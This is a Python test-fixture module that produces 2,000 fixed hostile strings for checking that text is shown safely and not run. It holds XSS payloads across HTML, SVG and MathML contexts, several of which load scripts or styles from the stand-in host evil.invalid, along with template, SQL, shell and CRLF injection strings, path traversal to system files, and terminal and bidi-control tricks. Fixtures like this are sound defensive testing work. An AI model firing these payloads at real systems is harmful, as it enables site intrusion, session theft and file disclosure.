"""Texts that a model, a data set or a user may hold and that must be shown as text: 2,000 different ones, the same each time.

Scripts and handlers in every context a page has (text, attribute, address, style, JSON inside a script, SVG, MathML), templates of
the server's and of other languages, characters that turn or hide text, terminal codes, broken Unicode, and endless ones. A script
that did run would set `window.pwned`, or ask for an address at `evil.invalid`.
"""

import random
from collections.abc import Iterator

CALL = "window.pwned=1"
TAGS = (
    "<script>{c}</script>",
    "<SCRIPT>{c}</SCRIPT>",
    "<script src=//evil.invalid/x.js></script>",
    "<img src=x onerror={c}>",
    "<svg onload={c}>",
    "<svg><script>{c}</script></svg>",
    "<svg><animate onbegin={c} attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:{c}"><text y=9>x</text></a></svg>',
    "<math><mtext></mtext><mglyph><style><img src=x onerror={c}></style></mglyph></math>",
    '<math href="javascript:{c}">x</math>',
    '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
    '<iframe src="javascript:parent.pwned=1">',
    '<object data="javascript:{c}">',
    '<embed src="javascript:{c}">',
    '<a href="javascript:{c}">x</a>',
    '<form action="javascript:{c}"><button>x</button></form>',
    '<button formaction="javascript:{c}">x</button>',
    "<input autofocus onfocus={c}>",
    "<details open ontoggle={c}>",
    "<video><source onerror={c}></video>",
    "<audio src=x onerror={c}>",
    "<body onload={c}>",
    "<marquee onstart={c}>",
    "<style>@import '//evil.invalid/x.css';</style>",
    "<style>*{{background:url(//evil.invalid/x)}}</style>",
    "<link rel=stylesheet href=//evil.invalid/x.css>",
    "<base href=//evil.invalid/>",
    '<meta http-equiv=refresh content="0;url=//evil.invalid">',
    "<template><script>{c}</script></template>",
    '<noscript><p title="</noscript><img src=x onerror={c}>">',
    "<textarea><script>{c}</script>",
    "<title><img src=x onerror={c}></title>",
    "<xmp><script>{c}</script></xmp>",
    "<plaintext>",
    "<!--><script>{c}</script-->",
    "<![CDATA[<script>{c}</script>]]>",
    '<?xml version="1.0"?><x/>',
    '<div style="background:url(javascript:{c})">',
    "<p onpointerover={c} style=font-size:99px>x",
    "<img src=//evil.invalid/x.png>",
    '<img srcset="//evil.invalid/x.png 1x">',
    '<div hx-get="//evil.invalid" hx-trigger=load></div>',
    '<div hx-on:load="{c}"></div>',
    '<div data-hx-get=/ hx-trigger="load[{c}]" hx-vals="js:{{a:{c}}}"></div>',
    "<div data-widget=lens></div>",
)
BEFORE = (
    "",
    '">',
    "'>",
    '" ',
    "' ",
    "`",
    "</script>",
    "</style>",
    "</textarea>",
    "</title>",
    "-->",
    "]]>",
    '\\";',
    "\\u003c",
    "*/",
    "\n",
    "</bdi>",
    "&quot;>",
)
AFTER = ("", "<!--", "//", "<script>", '"', "'", ' x="', "/*", "\0", "</")
FIXED = (
    "{{ 7*7 }}",
    "{{ config }}",
    "{% for x in y %}",
    "{#",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{constructor.constructor('window.pwned=1')()}}",
    "[[${7*7}]]",
    "javascript:window.pwned=1",
    " \tjava\nscript:window.pwned=1",
    "data:text/html,<script>window.pwned=1</script>",
    "vbscript:x",
    "//evil.invalid/x",
    "</script><script>window.pwned=1</script>",
    "</ScRiPt ><script>window.pwned=1</script>",
    "<!--<script>",
    "]]></script>",
    "\u2028window.pwned=1\u2029",
    '" onmouseover="window.pwned=1',
    "' onfocus='window.pwned=1' autofocus='",
    "onerror=window.pwned=1",
    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
    "&#60;script&#62;",
    "%3Cscript%3Ewindow.pwned=1%3C/script%3E",
    "\\x3cscript\\x3ewindow.pwned=1\\x3c/script\\x3e",
    "+ADw-script+AD4-window.pwned=1+ADw-/script+AD4-",
    "__proto__",
    "constructor",
    "toString",
    "hasOwnProperty",
    "null",
    "undefined",
    "NaN",
    "true",
    "-0",
    "1e999",
    "[object Object]",
    "0x7f",
    "../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "C:\\",
    "CON",
    "file:///etc/passwd",
    "a\0b",
    "%00",
    "%s%s%n",
    "; ls",
    "$(id)",
    "`id`",
    "' OR 1=1 --",
    "=1+1",
    "@SUM(A1)",
    "+1",
    "-1",
    "\tcell",
    "\r\nSet-Cookie: a=b",
    "a\r\n\r\n<html>",
    "",
    " ",
    "\t",
    "\n",
    "\u00a0",
    "\ufeff",
    "\u200b",
    "\u00ad",
    "\ufffd",
    "\ufffe",
    "\uffff",
    "\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07",
    "\x1b]8;;http://evil.invalid\x1b\\link\x1b]8;;\x1b\\",
    "\x1b[2J\x1b[H",
    "\x9b31m",
    "\x07\x08\x7f",
    "\x1bP+q\x1b\\",
    "\u202egnp.exe\u202c",
    "\u2066\u202eadmin\u2069",
    "\u061c\u200f\u200e",
    "\u05d0\u05d1\u05d2 abc 123",
    "\u0645\u0631\u062d\u0628\u0627",
    "a\u202e\u2066b",
    "\u2067" * 70,
    "z\u0351\u0352\u0353" * 40,
    "e" + "\u0301" * 500,
    "\u0e33" * 200,
    "\ufdfd" * 50,
    "\U0001f469\u200d\U0001f469\u200d\U0001f467" * 20,
    "\U0001f3f4\U000e0067\U000e007f",
    "\ud800",
    "\udfff",
    "a\ud83d",
    "\udc00b",
    "\ud800\ud800",
    "\U0010ffff",
    "\U000f0000",
    "\ue000",
    "\u3164",
    "\u2800",
    "\u115f",
    "a\u0000",
    "x" * 100_000,
    "<" * 20_000,
    "&" * 20_000,
    "\"'" * 10_000,
    "\u4e00" * 20_000,
    "word " * 10_000,
    "\n" * 5000,
    "<b>" * 5000,
    "a" + "\u200b" * 10_000 + "b",
)
ODD = (
    "\u202e",
    "\u2066",
    "\u200b",
    "\u200d",
    "\u00ad",
    "\x1b[31m",
    "\0",
    "\x08",
    "\u0301" * 30,
    "\ud83d",
    "\udc00",
    "\ufeff",
    "\u2028",
    "\u3164",
    "\u05d0",
    "\u0645",
)


def hostile_strings(n: int = 2000, seed: int = 0) -> list[str]:
    """`n` different hostile texts, the same for the same seed; the fixed ones come first."""
    found: dict[str, None] = {}
    for text in _endless(seed):
        found.setdefault(text)
        if len(found) == n:
            break
    return list(found)


def _endless(seed: int) -> Iterator[str]:
    yield from FIXED
    yield from (tag.format(c=CALL) for tag in TAGS)
    draw = random.Random(seed)
    while True:
        text = draw.choice(BEFORE) + draw.choice(TAGS).format(c=CALL) + draw.choice(AFTER)
        yield _twisted(text, draw) if draw.random() < 0.6 else text


def _twisted(text: str, draw: random.Random) -> str:
    """The text with an odd character in it, in another case, or repeated."""
    how = draw.randrange(4)
    if how == 0:
        at = draw.randrange(len(text) + 1)
        return text[:at] + draw.choice(ODD) + text[at:]
    if how == 1:
        return "".join(draw.choice((c.lower(), c.upper())) for c in text)
    if how == 2:
        return draw.choice(ODD) + text + draw.choice(ODD)
    return text.replace(" ", draw.choice(("\t", "\n", "/", "\f", "\u00a0", "\x0b"))) + draw.choice(ODD)
